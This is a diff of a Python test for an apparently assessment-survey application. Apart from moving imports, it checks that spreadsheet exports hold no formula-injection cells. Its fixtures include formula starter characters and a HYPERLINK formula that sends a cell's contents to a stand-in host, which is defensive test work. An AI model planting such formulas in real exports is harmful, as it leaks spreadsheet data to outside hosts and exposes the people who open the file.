@@ -32,11 +32,11 @@ from partnerscan.accounts.models import Organisation, User
 from partnerscan.assessments import domain, mailtexts
 from partnerscan.assessments.management.commands.send_invitations import invitation_mail
 from partnerscan.assessments.models import Answer, Assessment, Invitation, Response
+from partnerscan.core.files import file_response
 from partnerscan.core.languages import LANGUAGES
+from partnerscan.core.tables import Column, Table
 from partnerscan.plans import domain as plans
-from partnerscan.pool import research
-from partnerscan.reports.exports import Column, Table
-from partnerscan.reports.views import file_response
+from partnerscan.pool import research_tables
 
 STARTERS = ("=", "+", "-", "@", "\t", "\r")
 BODY = 'HYPERLINK("http://x.test/?"&A1,"click")'
@@ -249,7 +249,9 @@ def test_no_export_holds_a_cell_a_spreadsheet_would_run(
     client = logged_in(hostile.owner)
     base = f"/assessments/{hostile.assessment.pk}/export"
     files = {kind: body(client.get(f"{base}/{kind}.{fmt}")) for kind in ("responses", "results")}
-    files["research pool"] = written(research.pool_table(hostile.assessment.model_ref, "en"), fmt)
+    files["research pool"] = written(
+        research_tables.pool_table(hostile.assessment.model_ref, "en"), fmt
+    )
     cells = {kind: cells_of(data, fmt, tmp_path) for kind, data in files.items()}
     assert {kind: [c for c in found if live(c)] for kind, found in cells.items()} == {
         kind: [] for kind in files
